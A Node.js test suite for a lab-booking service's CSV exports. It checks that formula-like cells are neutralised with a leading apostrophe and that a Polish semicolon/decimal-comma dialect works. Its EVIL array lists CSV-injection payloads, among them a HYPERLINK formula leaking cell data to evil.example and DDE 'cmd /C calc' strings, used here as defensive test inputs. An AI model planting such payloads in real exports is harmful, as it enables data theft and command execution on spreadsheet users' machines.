// csv.test.mjs — every CSV the server and the command line write is safe to
// open in a spreadsheet (cells that would run as formulas start with ') and
// comes in the Polish dialect on request (locale=pl: semicolons, decimal
// commas, byte-order mark).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, Client, addUser, assertError, cli, parseCsv } from './lib.mjs';

let srv, staff;
// Names an attacker with an owner's rights could give their resources.
const EVIL = [
  '=HYPERLINK("http://evil.example/?"&A1,"Kliknij")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
];
const day = (d) => d.toISOString().slice(0, 10);
// A week that starts tomorrow, so the test holds in any year.
const FROM = day(new Date(Date.now() + 86400000));
const TO = day(new Date(Date.now() + 8 * 86400000));
const SPAN = `from=${FROM}&to=${TO}`;
const YEAR = new Date().getUTCFullYear();

before(async () => {
  srv = await startServer();
  addUser(srv, { email: 'staff@csv.test', role: 'staff' });
  staff = new Client(srv.url);
  await staff.login('staff@csv.test');
  const org = await staff.post('/api/v1/organisations', { name: '=1+1 Sp. z o.o.', group: 'BIZ' });
  assert.equal(org.status, 201, org.text);
  const lab = await staff.post('/api/v1/labs', { organisation_id: org.json.id, name: '@lab', kind: 'commercial', area_m2: 50.5 });
  assert.equal(lab.status, 201, lab.text);
  for (const name of [...EVIL, 'Mikroskop; konfokalny, "Zeiss"']) {
    const r = await staff.post('/api/v1/resources', { lab_id: lab.json.id, type: 'instrument', name, power_kw: 1.25 });
    assert.equal(r.status, 201, r.text);
  }
});
after(async () => { await srv.stop(); });

/** The body as bytes: fetch's text() would hide the byte-order mark. */
async function rawCsv(path) {
  const res = await fetch(srv.url + path, { headers: { cookie: staff.cookie } });
  assert.equal(res.status, 200, path);
  assert.match(res.headers.get('content-type'), /^text\/csv; charset=utf-8/);
  const bytes = Buffer.from(await res.arrayBuffer());
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], `${path}: byte-order mark`);
  return bytes.subarray(3).toString('utf8');
}

/** No cell of any row would run as a formula. */
function assertNoFormula(rows, what) {
  for (const row of rows) {
    for (const cell of row) {
      if (/^-?[0-9]/.test(cell)) continue; // a number
      assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${what}: cell ${JSON.stringify(cell)} would run as a formula`);
    }
  }
}

test('names that look like formulas are written as text in the utilisation CSV', async () => {
  const json = await staff.get(`/api/v1/stats/utilisation?${SPAN}&group_by=resource`);
  assert.equal(json.status, 200, json.text);
  // The JSON keeps the names exactly as stored…
  assert.deepEqual(json.json.items.map((i) => i.name).sort(), [...EVIL, 'Mikroskop; konfokalny, "Zeiss"'].sort());
  // …and the CSV prefixes an apostrophe, which spreadsheets show as text.
  const rows = parseCsv(await rawCsv(`/api/v1/stats/utilisation?${SPAN}&group_by=resource&format=csv`));
  const head = rows[0];
  const name = head.indexOf('name'), org = head.indexOf('organisation_name'), lab = head.indexOf('lab_name');
  const names = rows.slice(1).map((r) => r[name]);
  for (const evil of EVIL) assert.ok(names.includes(`'${evil}`), `${evil} not neutralised: ${names}`);
  assert.ok(names.includes('Mikroskop; konfokalny, "Zeiss"'), 'a harmless name is unchanged');
  assert.equal(rows[1][org], "'=1+1 Sp. z o.o.");
  assert.equal(rows[1][lab], "'@lab");
  assertNoFormula(rows, 'utilisation');
  // Numbers stay numbers: the power of 1.25 kW gives no negative sign to
  // neutralise, but every figure parses back.
  const kwh = head.indexOf('available_hours');
  for (const r of rows.slice(1)) assert.ok(Number.isFinite(Number(r[kwh])), r[kwh]);
});

test('every statistics CSV comes in the Polish dialect with locale=pl', async () => {
  const routes = [
    `/api/v1/stats/utilisation?${SPAN}&group_by=resource`,
    `/api/v1/stats/utilisation?${SPAN}&group_by=organisation`,
    `/api/v1/stats/indicators?year=${YEAR}`,
    `/api/v1/stats/heatmap?${SPAN}`,
    `/api/v1/stats/monthly?year=${YEAR}&group_by=kind`,
  ];
  for (const path of routes) {
    const en = parseCsv(await rawCsv(`${path}&format=csv`), ',');
    const plText = await rawCsv(`${path}&format=csv&locale=pl`);
    const pl = parseCsv(plText, ';');
    assert.equal(pl.length, en.length, path);
    for (let i = 0; i < en.length; i++) {
      assert.equal(pl[i].length, en[i].length, `${path} row ${i}: ${pl[i]}`);
      for (let k = 0; k < en[i].length; k++) {
        const a = en[i][k], b = pl[i][k];
        if (/^-?[0-9.]+(e[-+]?[0-9]+)?$/.test(a) && a.includes('.')) {
          // The same number with a decimal comma.
          assert.equal(b, a.replace('.', ','), `${path} row ${i} col ${k}`);
        } else {
          assert.equal(b, a, `${path} row ${i} col ${k}`);
        }
      }
    }
    assertNoFormula(pl, path);
  }
  // locale=en is the default dialect, anything else is a 422 naming it.
  const en = await rawCsv(`/api/v1/stats/heatmap?${SPAN}&format=csv&locale=en`);
  assert.equal(en, await rawCsv(`/api/v1/stats/heatmap?${SPAN}&format=csv`));
  assertError(await staff.get(`/api/v1/stats/heatmap?${SPAN}&format=csv&locale=de`), 422, 'validation', 'locale');
});

test('a decimal comma is not taken for a separator in the Polish dialect', async () => {
  const rows = parseCsv(await rawCsv(`/api/v1/stats/indicators?year=${YEAR}&format=csv&locale=pl`), ';');
  const area = rows.find((r) => r[0] === 'lab_area_m2.commercial');
  assert.equal(area[rows[0].indexOf('value')], '50,5');
});

test('the command line writes the same safe CSV, in either dialect', () => {
  const out = cli(['stats', 'utilisation', '--db', srv.db, '--from', FROM, '--to', TO, '--csv']);
  assert.equal(out.status, 0, out.stderr);
  assert.ok(out.stdout.startsWith('\uFEFF'));
  const rows = parseCsv(out.stdout.slice(1));
  assertNoFormula(rows, 'labshare stats utilisation --csv');
  assert.ok(rows.some((r) => r.includes(`'${EVIL[0]}`)));
  const pl = cli(['stats', 'utilisation', '--db', srv.db, '--from', FROM, '--to', TO, '--csv', '--locale', 'pl']);
  assert.equal(pl.status, 0, pl.stderr);
  const plRows = parseCsv(pl.stdout.slice(1), ';');
  assert.equal(plRows.length, rows.length);
  assertNoFormula(plRows, 'labshare stats utilisation --csv --locale pl');
  const ind = cli(['stats', 'indicators', '--db', srv.db, '--year', String(YEAR), '--csv', '--locale', 'pl']);
  assert.equal(ind.status, 0, ind.stderr);
  assert.ok(parseCsv(ind.stdout.slice(1), ';').some((r) => r[0] === 'lab_area_m2.commercial' && r.includes('50,5')));
  const bad = cli(['stats', 'indicators', '--db', srv.db, '--year', String(YEAR), '--csv', '--locale', 'de']);
  assert.equal(bad.status, 2, bad.stderr);
  assert.match(bad.stderr, /--locale must be en or pl/);
});
